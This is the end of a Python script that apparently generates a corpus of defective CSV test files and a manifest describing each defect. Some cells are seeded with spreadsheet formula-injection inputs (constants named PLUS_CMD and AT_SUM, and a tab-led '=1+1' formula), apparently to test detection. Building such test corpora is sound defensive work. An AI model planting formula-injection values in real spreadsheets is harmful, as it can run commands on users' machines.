    rows[3][header.index("note")] = PLUS_CMD
    rows[8][header.index("geography")] = AT_SUM
    rows[8][header.index("note")] = "\t=1+1 tab-led formula"
    return rows


def main() -> None:
    names = [c.file for c in CASES]
    assert len(names) == len(set(names)), "duplicate file names"
    for old in HERE.iterdir():
        if old.name not in ("make_corpus.py", "harness.py", "MANIFEST.csv", "README.md") and old.is_file():
            old.unlink()
    for case in CASES:
        (HERE / case.file).write_bytes(case.make())
    with (HERE / "MANIFEST.csv").open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, MANIFEST_FIELDS, lineterminator="\n")
        w.writeheader()
        for c in CASES:
            w.writerow({"file": c.file, "format": c.format, "cli_format": c.cli_format,
                        "derived_from": "tests/fixtures/" + c.derived_from, "defect": c.defect,
                        "expected": c.expected, "n_set_aside": c.n_set_aside, "reason": c.reason, "row": c.row,
                        "column": c.column})
    print(f"{len(CASES)} files written to {HERE}")


if __name__ == "__main__":
    main()
